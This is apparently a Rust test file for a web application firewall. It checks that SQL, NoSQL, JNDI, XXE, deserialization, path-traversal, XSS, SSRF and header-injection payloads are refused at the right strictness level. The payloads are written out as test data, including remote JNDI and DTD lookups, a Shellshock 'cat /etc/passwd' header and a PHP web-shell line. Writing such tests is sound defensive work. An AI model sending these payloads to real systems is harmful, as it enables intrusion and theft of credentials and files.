//! Attacks: each text of `attacks.txt` in each wrapping, and whole requests.

use waf::Decision;

use super::{carriers, levels, run, told, unescaped};

/// Level, kind, what it is not carried in, text.
pub(crate) fn table() -> Vec<(usize, String, Vec<String>, Vec<u8>)> {
    let lines = include_str!("attacks.txt").lines().filter(|line| !line.is_empty() && !line.starts_with('#'));
    let one = |line: &str| {
        let (level, rest) = line.split_once(' ').unwrap();
        let (kind, text) = rest.split_once(' ').unwrap();
        let mut words = kind.split('!').map(|word| word.replace('_', " "));
        (level.parse().unwrap(), words.next().unwrap(), words.collect(), unescaped(text))
    };
    lines.map(one).collect()
}

#[test]
fn an_attack_is_refused_at_its_level_however_it_is_carried() {
    let plans = levels();
    let mut wrong = Vec::new();
    for (level, kind, not_in, text) in table() {
        let plan = plans.get(level - 1).unwrap();
        let below = level.checked_sub(2).and_then(|below| plans.get(below));
        let ways = carriers::as_a_value(&text).into_iter().chain(carriers::in_disguise(&text));
        for (way, raw) in ways.filter(|(way, _)| !not_in.iter().any(|not| not == way)) {
            let shown = String::from_utf8_lossy(&text);
            let report = run(plan, &raw);
            if report.decision == Decision::Pass {
                wrong.push(format!("{kind}, level {level}, {way}: {shown} passes ({})", told(&report)));
            }
            let early = below.map(|plan| run(plan, &raw)).filter(|report| report.decision != Decision::Pass);
            if let Some(report) = early.filter(|_| way == "query") {
                wrong.push(format!("{kind}, {way}: {shown} is refused below {level} ({})", told(&report)));
            }
        }
    }
    assert!(wrong.is_empty(), "{} are wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn there_are_enough_of_them_of_each_kind() {
    let table = table();
    assert!(table.len() >= 200, "{}", table.len());
    for kind in [
        "sql", "nosql", "ldap", "xpath", "command", "template", "jndi", "code", "path", "ssrf", "xxe",
        "object", "xss", "header",
    ] {
        let count = table.iter().filter(|one| one.1 == kind).count();
        assert!(count >= 2, "{kind}: {count}");
    }
}

/// Attacks on the path and the query: level, target.
const TARGETS: [(usize, &str); 58] = [
    (1, "/item/1'%20OR%20'1'='1"),
    (1, "/item/1%20UNION%20SELECT%20password%20FROM%20users"),
    (1, "/static/../../../../etc/passwd"),
    (1, "/static/%2e%2e/%2e%2e/etc/passwd"),
    (1, "/static/..%2f..%2fetc%2fpasswd"),
    (1, "/static/%252e%252e%252f%252e%252e%252fetc/passwd"),
    (1, "/static/..%5c..%5cwindows%5cwin.ini"),
    (1, "/static/..;/..;/admin"),
    (1, "/static/..%c0%af..%c0%afetc/passwd"),
    (1, "/a/.."),
    (1, "/.env"),
    (1, "/app/.env.production"),
    (1, "/.git/config"),
    (1, "/.git/HEAD"),
    (1, "/.aws/credentials"),
    (1, "/.ssh/id_rsa"),
    (1, "/wp-login.php"),
    (1, "/wp-admin/setup-config.php"),
    (1, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    (1, "/phpmyadmin/index.php"),
    (1, "/cgi-bin/test.cgi"),
    (1, "/actuator/env"),
    (1, "/backup.sql"),
    (1, "/db.bak"),
    (1, "/WEB-INF/web.xml"),
    (1, "/%24%7Bjndi:ldap://203.0.113.5/a%7D"),
    (1, "/hello/%3Cscript%3Ealert(1)%3C/script%3E"),
    (1, "/hello/$%7B7*7%7D"),
    (1, "/run/;cat%20/etc/passwd"),
    (1, "/a%0d%0aSet-Cookie:%20a=b"),
    (1, "/a%00.png"),
    (1, "/?a%0d%0aX-Own:%201=2"),
    (1, "/?a=1%00"),
    (1, "/?user[$ne]=x&password[$ne]=x"),
    (1, "/?user[%24regex]=.*"),
    (1, "/?$where=sleep(1000)"),
    (1, "/?__proto__[isAdmin]=1"),
    (1, "/?a[__proto__][b]=1"),
    (1, "/?__proto__.isAdmin=1"),
    (1, "/?constructor[prototype][isAdmin]=1"),
    (1, "/?constructor.prototype.isAdmin=1"),
    (1, "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    (1, "/a;id/b"),
    (1, "/x/;cat%20/etc/passwd/y"),
    (1, "/users/1'%20or%20'1'='1/x"),
    (1, "/list?sort=if(1=1,id,name)"),
    (1, "/list?sort=id,(select%20sleep(1))"),
    (1, "/fetch/http://169.254.169.254/"),
    (1, "/fetch/http:%2F%2F169.254.169.254%2Flatest"),
    (1, "/x/rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA/y"),
    (1, "/x/__proto__/y"),
    (1, "/?__pro__proto__to__[a]=1"),
    (1, "/?user[$mod][0]=1"),
    (1, "/?user[$options]=i"),
    (1, "/?user[$near]=1"),
    (1, "/?user[$comment]=1"),
    (1, "/?$set[role]=admin"),
    (2, "/?$own=1"),
];

#[test]
fn an_attack_on_the_path_or_a_name_is_refused_at_its_level() {
    let plans = levels();
    let mut wrong = Vec::new();
    for (level, target) in TARGETS {
        let decide = |plan| run(plan, &carriers::get(target)).decision;
        let before = level.checked_sub(2).and_then(|below| plans.get(below));
        if decide(plans.get(level - 1).unwrap()) == Decision::Pass {
            wrong.push(format!("{target} passes at {level}"));
        }
        if before.is_some_and(|plan| decide(plan) != Decision::Pass) {
            wrong.push(format!("{target} is refused below {level}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Attacks in a header: level, name, value.
const HEADERS: [(usize, &str, &str); 38] = [
    (1, "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    (1, "User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
    (1, "User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    (1, "User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    (1, "User-Agent", "gobuster/3.6"),
    (1, "User-Agent", "Fuzz Faster U Fool v2.1.0"),
    (1, "User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    (1, "User-Agent", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),
    (1, "User-Agent", "${jndi:ldap://203.0.113.5/a}"),
    (1, "User-Agent", "x' OR SLEEP(5)-- -"),
    (1, "User-Agent", "<script>alert(1)</script>"),
    (1, "User-Agent", "<?php system($_GET['c']); ?>"),
    (1, "Referer", "https://e.org/?q=1' UNION SELECT 1,2,3-- -"),
    (1, "Referer", "javascript:alert(1)"),
    (1, "Referer", "\"><script>alert(1)</script>"),
    (1, "X-Forwarded-For", "127.0.0.1' OR '1'='1"),
    (1, "X-Forwarded-For", "${jndi:dns://203.0.113.5}"),
    (1, "X-Forwarded-Host", "169.254.169.254"),
    (1, "X-Api-Version", "${${lower:j}ndi:ldap://203.0.113.5/a}"),
    (1, "X-User-Id", "1' OR '1'='1"),
    (1, "X-User-Id", "1;cat /etc/passwd"),
    (1, "X-Template", "{{7*7}}"),
    (1, "Authorization", "Bearer ${jndi:ldap://203.0.113.5/a}"),
    (1, "Cookie", "id=1' OR '1'='1"),
    (1, "Cookie", "id=1%27%20OR%20%271%27%3D%271"),
    (1, "Cookie", "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
    (1, "Cookie", "data=O%3A4%3A%22User%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bi%3A1%3B%7D"),
    (1, "Cookie", "profile=%7B%22__proto__%22%3A%7B%22a%22%3A1%7D%7D"),
    (1, "Cookie", "lang=../../../../etc/passwd"),
    (1, "Cookie", "u=%0d%0aSet-Cookie:%20a=b"),
    (1, "Range", "bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6"),
    (1, "Content-Type", "application/json; charset=utf-7"),
    (1, "Content-Type", "application/x-www-form-urlencoded; charset=ibm037"),
    (1, "Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
    (1, "X-Middleware-Subrequest", "middleware:middleware"),
    (1, "Proxy", "http://203.0.113.5/"),
    (2, "X-HTTP-Method-Override", "DELETE"),
    (2, "X-Original-URL", "/admin"),
];

#[test]
fn an_attack_in_a_header_is_refused_at_its_level() {
    let plans = levels();
    let mut wrong = Vec::new();
    for (level, name, value) in HEADERS {
        let raw = carriers::request("GET", "/", &[(name, value.as_bytes())], b"");
        let before = level.checked_sub(2).and_then(|below| plans.get(below));
        if run(plans.get(level - 1).unwrap(), &raw).decision == Decision::Pass {
            wrong.push(format!("{name}: {value} passes at {level}"));
        }
        if before.is_some_and(|plan| run(plan, &raw).decision != Decision::Pass) {
            wrong.push(format!("{name}: {value} is refused below {level}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Attacks that only a body has: level, media type, body.
const BODIES: [(usize, &str, &[u8]); 55] = [
    (1, "application/json", b"{\"user\":{\"$ne\":null},\"password\":{\"$ne\":null}}"),
    (1, "application/json", b"{\"user\":\"a\",\"password\":{\"$gt\":\"\"}}"),
    (1, "application/json", b"{\"$where\":\"sleep(1000)\"}"),
    (1, "application/json", b"{\"a\":[{\"$or\":[{},{\"b\":1}]}]}"),
    (1, "application/json", b"{\"__proto__\":{\"isAdmin\":true}}"),
    (1, "application/json", b"{\"a\":{\"__proto__\":{\"b\":1}}}"),
    (1, "application/json", b"{\"\\u005f_proto__\":{\"b\":1}}"),
    (1, "application/json", b"{\"constructor\":{\"prototype\":{\"b\":1}}}"),
    (1, "application/json", b"{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}"),
    (1, "application/json", b"{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}"),
    (1, "application/json", b"{\"__type\":\"System.Diagnostics.Process\"}"),
    (1, "application/json", b"{\"a\":1"),
    (1, "application/json", b"{\"a\":1} {\"b\":2}"),
    (1, "text/plain", b"{\"user\":{\"$ne\":null}}"),
    (1, "text/plain", b"{\"__proto__\":{\"b\":1}} {"),
    (1, "application/x-www-form-urlencoded", b"{\"user\":{\"$ne\":null}}"),
    (1, "application/x-www-form-urlencoded", b"{\"a\":\"x&id=1' OR '1'='1\"}"),
    (1, "application/x-www-form-urlencoded", b"user[$gt]=&password[$gt]="),
    (1, "application/octet-stream", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap"),
    (1, "application/octet-stream", b"cos\nsystem\n(S'id'\ntR."),
    (1, "application/yaml", b"a: !!python/object/apply:os.system [\"id\"]\n"),
    (1, "application/xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
    (1, "text/plain", b"<?xml version=\"1.0\"?>\n<!DOCTYPE a SYSTEM \"http://203.0.113.5/e.dtd\"><a/>"),
    (1, "application/xml", b"<a><b></a>"),
    (1, "image/svg+xml", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
    (1, "image/svg+xml", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
    (1, "image/svg+xml", b"<svg><a xlink:href=\"javascript:alert(1)\"/></svg>"),
    (
        1,
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/passwd\"\r\n\r\nx\r\n--b--\r\n",
    ),
    (
        1,
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.jpg;cat /etc/passwd\"\r\n\r\nx\r\n--b--\r\n",
    ),
    (1, "multipart/form-data; boundary=b", b"--b\nContent-Disposition: form-data; name=\"a\"\n\n1\n--b--\n"),
    (
        1,
        "multipart/form-data; boundary=b",
        b"more\r\n--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--b--\r\n",
    ),
    (
        1,
        "multipart/form-data; boundary=b",
        b"\r\n--c\r\nContent-Disposition: form-data; name=\"z\"\r\n\r\n1\r\n--b\r\nContent-Disposition: \
          form-data; name=\"a\"\r\n\r\n1\r\n--b--\r\n",
    ),
    (
        1,
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--b--\r\n\r\n--b\r\nContent-Disposition: \
          form-data; name=\"z\"\r\n\r\n1\r\n--b--\r\n",
    ),
    (1, "text/plain", b"\xff\xfe{\0\"\0a\0\"\0:\0\"\0'\0o\0r\0\"\0}\0"),
    (1, "application/octet-stream", b"\0{\0\"\0a\0\"\0:\x001\0}"),
    (1, "text/plain", b"<\0\0\0!\0\0\0D\0\0\0O\0\0\0"),
    (1, "application/graphql", b"{ user(id: \"1' OR '1'='1\") { name } }"),
    (1, "text/csv", b"a,b\n=cmd|' /C calc'!A0,1\n"),
    (1, "application/json", b"{\"a\":\"{\\\"user\\\":{\\\"$ne\\\":null}}\"}"),
    (
        1,
        "application/json",
        b"[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://203.0.113.5/x.xml\"]",
    ),
    (1, "application/json", b"{\"py/object\":\"os.system\"}"),
    (1, "application/json", b"{\"url\":\"http://localhost:8080/admin\"}"),
    (1, "application/json", b"{\"http\":{\"url\":\"http://127.0.0.1/\"}}"),
    (1, "application/json", b"{\"request\":{\"url\":\"http://localhost:3000/x\"}}"),
    (1, "text/plain", b"hello\nworld;cat /etc/passwd"),
    (1, "application/xml", b"<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><void/></java>"),
    (1, "application/octet-stream", b"\xff\xfe<\0!\0D\0O\0C\0T\0Y\0P\0E\0 \0a\0"),
    (
        1,
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.xml\"\r\nContent-Type: text/xml\r\n\r\n<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>\r\n--b--\r\n",
    ),
    (
        1,
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\r\n--b--\r\n",
    ),
    (
        1,
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<?xml version=\"1.0\"?>\n<svg onload=\"alert(1)\"/>\r\n--b--\r\n",
    ),
    (
        1,
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n\r\nrO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA\r\n--b--\r\n",
    ),
    (
        1,
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Disposition: form-data; name=\"f\"\r\nContent-Transfer-Encoding: base64\r\n\r\nMScgT1IgJzEnPScx\r\n--b--\r\n",
    ),
    (
        1,
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Disposition: form-data; name=\"f\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\nx\r\n--b--\r\n",
    ),
    (2, "application/json", b"{\"properties\":{\"$set\":{\"plan\":\"free\"}}}"),
    (2, "application/json", b"{\"a\":{\"$custom\":1}}"),
];

#[test]
fn an_attack_of_a_body_is_refused_at_its_level() {
    let plans = levels();
    let mut wrong = Vec::new();
    for (level, kind, body) in BODIES {
        let raw = carriers::post(kind, body);
        let shown = String::from_utf8_lossy(body);
        let before = level.checked_sub(2).and_then(|below| plans.get(below));
        if run(plans.get(level - 1).unwrap(), &raw).decision == Decision::Pass {
            wrong.push(format!("{kind}: {shown} passes at {level}"));
        }
        if before.is_some_and(|plan| run(plan, &raw).decision != Decision::Pass) {
            wrong.push(format!("{kind}: {shown} is refused below {level}"));
        }
    }
    for method in ["TRACE", "TRACK", "CONNECT"] {
        let raw = carriers::request(method, "/", &[], b"");
        if run(plans.first().unwrap(), &raw).decision == Decision::Pass {
            wrong.push(method.to_owned());
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn no_match_is_lost_to_the_search_ahead_of_the_rules() {
    let (rules, settings) = (super::rules(), waf::Settings::paranoia(3));
    let unfiltered = waf::Settings { unfiltered: true, ..settings.clone() };
    let (fast, slow) = (super::plan_with(&rules, settings), super::plan_with(&rules, unfiltered));
    for (_, _, _, text) in table() {
        for (way, raw) in carriers::as_a_value(&text).into_iter().chain(carriers::in_disguise(&text)) {
            let (fast, slow) = (run(&fast, &raw), run(&slow, &raw));
            assert_eq!(fast.matches, slow.matches, "{way}: {}", String::from_utf8_lossy(&text));
        }
    }
}
